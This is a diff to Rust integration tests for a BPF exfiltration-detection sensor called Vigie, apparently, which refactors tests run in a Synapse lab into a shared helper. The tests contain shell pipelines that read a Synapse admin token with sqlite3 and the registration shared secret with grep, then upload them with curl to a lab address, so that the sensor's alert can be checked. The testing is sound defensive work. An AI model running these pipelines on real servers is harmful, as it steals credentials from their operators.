@@ -9,6 +9,7 @@
 //! send one out (a bug, an SSRF, a malicious module) nothing is seen: telling a secret's value
 //! in traffic needs content matching, which Vigie does not do.
 
+use std::net::SocketAddr;
 use std::path::Path;
 use std::process::{Command, Stdio};
 
@@ -121,6 +122,30 @@ fn synapse_2_admin_token_theft_from_the_database_is_an_alert() -> Result<()> {
     Ok(())
 }
 
+/// Runs `script` (`READER … | curl …`) in a shell and expects the alert on curl, with the
+/// shell as an ancestor, `reader` as the origin, `secret` as the file and `dest`.
+fn expect_piped_upload(
+    world: &SynapseLab,
+    script: &str,
+    reader: &str,
+    secret: &str,
+    dest: SocketAddr,
+) -> Result<()> {
+    let shell = run("sh", &["-c", script])?;
+    let found = world.sensor.expect(
+        |line| {
+            alert::is_exfiltration(line)
+                && alert::ancestry_pids(line).contains(&shell)
+                && executable_ends_with(line, "/process/executable", "curl")
+        },
+        ALERT_TIMEOUT,
+    )?;
+    ensure!(executable_ends_with(&found, "/vigie/origin/executable", reader), "from {reader}: {found:#}");
+    ensure!(alert::file_path(&found) == Some(secret), "names {secret}: {found:#}");
+    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
+    Ok(())
+}
+
 #[test]
 #[ignore = "needs root and BPF: run with cargo xtask test"]
 fn synapse_2_admin_token_through_sqlite3_and_curl_is_an_alert() -> Result<()> {
@@ -130,20 +155,7 @@ fn synapse_2_admin_token_through_sqlite3_and_curl_is_an_alert() -> Result<()> {
     let curl = format!("curl -s -o /dev/null --data-binary @- http://{dest}/");
     let script = format!("sqlite3 -readonly '{database}' '{ADMIN_TOKEN_SQL}' | {curl}");
 
-    let shell = run("sh", &["-c", &script])?;
-
-    let found = world.sensor.expect(
-        |line| {
-            alert::is_exfiltration(line)
-                && alert::ancestry_pids(line).contains(&shell)
-                && executable_ends_with(line, "/process/executable", "curl")
-        },
-        ALERT_TIMEOUT,
-    )?;
-    ensure!(executable_ends_with(&found, "/vigie/origin/executable", "sqlite3"), "from sqlite3: {found:#}");
-    ensure!(alert::file_path(&found) == Some(database), "names the database: {found:#}");
-    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
-    Ok(())
+    expect_piped_upload(&world, &script, "sqlite3", database, dest)
 }
 
 #[test]
@@ -155,20 +167,7 @@ fn synapse_3_shared_secret_through_grep_and_curl_is_an_alert() -> Result<()> {
     let script =
         format!("grep registration_shared_secret '{config}' | curl -s -o /dev/null -d @- http://{dest}/");
 
-    let shell = run("sh", &["-c", &script])?;
-
-    let found = world.sensor.expect(
-        |line| {
-            alert::is_exfiltration(line)
-                && alert::ancestry_pids(line).contains(&shell)
-                && executable_ends_with(line, "/process/executable", "curl")
-        },
-        ALERT_TIMEOUT,
-    )?;
-    ensure!(executable_ends_with(&found, "/vigie/origin/executable", "grep"), "grep read it: {found:#}");
-    ensure!(alert::file_path(&found) == Some(config), "names homeserver.yaml: {found:#}");
-    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
-    Ok(())
+    expect_piped_upload(&world, &script, "grep", config, dest)
 }
 
 #[test]
